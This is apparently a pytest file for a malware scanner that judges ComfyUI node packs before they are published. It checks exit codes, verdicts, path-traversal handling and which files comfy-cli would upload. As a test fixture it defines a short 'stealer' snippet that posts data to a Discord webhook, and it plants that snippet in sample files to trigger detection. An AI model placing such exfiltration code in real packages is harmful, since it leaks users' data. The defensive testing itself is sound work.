"""`python -m functions.scanner PATH`, run as a publisher or an admin would, in a subprocess."""

from __future__ import annotations

import json
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from tests.scanner.support import CORPUS, make_zip, sample_zip

ROOT = Path(__file__).resolve().parents[2]


def run(*args: str | Path) -> tuple[int, dict]:  # type: ignore[type-arg]
    done = subprocess.run(
        [sys.executable, "-m", "functions.scanner", *map(str, args)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    return done.returncode, (json.loads(done.stdout) if done.stdout.strip() else {})


def test_a_clean_folder_exits_zero(tmp_path: Path) -> None:
    (tmp_path / "__init__.py").write_text(
        "class A:\n    @classmethod\n    def INPUT_TYPES(cls):\n        return {'required': {}}\n"
        "    RETURN_TYPES = ()\n    FUNCTION = 'f'\nNODE_CLASS_MAPPINGS = {'A': A}\n"
    )
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git" / "hook.exe").write_bytes(b"MZ")  # never published, so never scanned
    code, report = run(tmp_path)
    assert code == 0
    assert report["verdict"] == "clean" and report["findings"] == []
    assert [n["name"] for n in report["extraction"]["nodes"]] == ["A"]
    assert len(report["sha256"]) == 64 and report["size"] > 0


def test_a_malicious_zip_exits_one(tmp_path: Path) -> None:
    path = tmp_path / "node.zip"
    path.write_bytes(sample_zip(CORPUS / "malicious" / "llmvision_stealer"))
    code, report = run(path, "--no-nodes", "--compact")
    assert code == 1
    assert report["verdict"] == "suspicious"
    assert {"CREDENTIAL-ACCESS", "EXFIL-ENDPOINT"} <= {f["rule"] for f in report["findings"]}
    assert "nodes" not in report["extraction"]


def test_an_unreadable_archive_exits_two(tmp_path: Path) -> None:
    path = tmp_path / "node.zip"
    path.write_bytes(make_zip({"../escape.py": "x"}))
    code, report = run(path)
    assert code == 2 and report["verdict"] == "unreadable" and "traversal" in report["reason"]
    assert run(tmp_path / "missing.zip")[0] == 2


def test_the_threshold_can_be_lowered(tmp_path: Path) -> None:
    path = tmp_path / "node.zip"
    path.write_bytes(make_zip({"__init__.py": "NODE_CLASS_MAPPINGS = {}\nx = __import__(name)\n"}))
    assert run(path)[0] == 0
    code, report = run(path, "--flag-at", "medium")
    assert code == 1 and report["flag_at"] == "medium"


# -- folder mode: what `comfy node publish` would upload -------------------------------------------------------
COMFY_PYTHON = ROOT / ".local" / "tools" / "comfy-cli" / "bin" / "python"
NODES = (
    "class A:\n    @classmethod\n    def INPUT_TYPES(cls):\n        return {'required': {}}\n"
    "    RETURN_TYPES = ()\n    FUNCTION = 'f'\nNODE_CLASS_MAPPINGS = {'A': A}\n"
)
STEALER = "import os, urllib.request\nurllib.request.urlopen('https://discord.com/api/webhooks/1/x', data=b'k')\n"


def git(repo: Path, *args: str) -> None:
    subprocess.run(
        ["git", "-C", str(repo), "-c", "user.name=t", "-c", "user.email=t@example.com", *args],
        check=True,
        capture_output=True,
        timeout=60,
    )


def pack_repo(root: Path) -> Path:
    """A node pack in a git checkout with ignored, untracked, comfyignored and included files."""
    repo = root / "pack"
    (repo / "web" / "js").mkdir(parents=True)
    (repo / "__init__.py").write_text(NODES)
    (repo / "web" / "js" / "ui.js").write_text("console.log('ui')\n")
    (repo / "pyproject.toml").write_text(
        '[project]\nname = "pack"\nversion = "1.0.0"\n[tool.comfy]\nincludes = ["dist"]\n'
    )
    (repo / ".gitignore").write_text("dist/\n.env\nscratch/\n")
    (repo / ".comfyignore").write_text("# never published\ntests/\n*.log\n")
    (repo / "tests").mkdir()
    (repo / "tests" / "test_steal.py").write_text(STEALER)  # tracked, but .comfyignore leaves it out
    (repo / "debug.log").write_text("x")
    git(repo, "init", "-q")
    git(repo, "add", ".")
    git(repo, "commit", "-q", "-m", "pack")
    (repo / ".env").write_text("KEY=1\n")  # ignored by git: never uploaded
    (repo / "scratch").mkdir()
    (repo / "scratch" / "steal.py").write_text(STEALER)  # ignored
    (repo / "notes.py").write_text(STEALER)  # untracked: never uploaded
    (repo / "dist").mkdir()
    (repo / "dist" / "bundle.js").write_text("console.log('bundle')\n")  # ignored by git, added by includes
    return repo


def files_of(report: dict) -> set[str]:  # type: ignore[type-arg]
    return {f["file"] for f in report["findings"]}


def test_a_folder_is_scanned_as_comfy_cli_would_upload_it(tmp_path: Path) -> None:
    repo = pack_repo(tmp_path)
    code, report = run(repo)
    assert code == 0, report["findings"]
    assert report["stats"]["files"] == 6  # .comfyignore .gitignore __init__.py dist/bundle.js pyproject.toml ui.js
    assert [n["name"] for n in report["extraction"]["nodes"]] == ["A"]
    # Tracked and not comfyignored: now it is part of the upload, and judged.
    (repo / "helper.py").write_text(STEALER)
    git(repo, "add", "helper.py")
    code, report = run(repo)
    assert code == 1 and files_of(report) == {"helper.py"}


def test_without_git_the_whole_tree_but_git_folders_and_comfyignored_files_is_scanned(tmp_path: Path) -> None:
    (tmp_path / "__init__.py").write_text(NODES)
    (tmp_path / ".comfyignore").write_text("private/\n")
    (tmp_path / "private").mkdir()
    (tmp_path / "private" / "steal.py").write_text(STEALER)
    code, report = run(tmp_path)
    assert code == 0 and report["stats"]["files"] == 2
    (tmp_path / "notes.py").write_text(STEALER)  # untracked, but there is no git: comfy-cli zips it
    code, report = run(tmp_path)
    assert code == 1 and files_of(report) == {"notes.py"}


@pytest.mark.skipif(not COMFY_PYTHON.exists(), reason="comfy-cli is not installed here (make comfy-cli)")
def test_the_folder_holds_exactly_the_files_comfy_cli_zips(tmp_path: Path) -> None:
    from functions.scanner.folder import publish_entries

    repo = pack_repo(tmp_path)
    (repo / "helper.py").write_text(STEALER)
    git(repo, "add", "helper.py")
    subprocess.run(
        [str(COMFY_PYTHON), "-c", "from comfy_cli.file_utils import zip_files; zip_files('node.zip', ['dist'])"],
        cwd=repo,
        check=True,
        capture_output=True,
        timeout=120,
    )
    with zipfile.ZipFile(repo / "node.zip") as archive:
        uploaded = sorted(archive.namelist())
    assert sorted(name for name, _ in publish_entries(repo)) == uploaded
    # ...and the registry's verdict on comfy-cli's archive is the folder's.
    code, from_folder = run(repo)
    code_zip, from_zip = run(repo / "node.zip")
    assert (code, from_folder["verdict"], files_of(from_folder)) == (code_zip, from_zip["verdict"], files_of(from_zip))
    assert code == 1
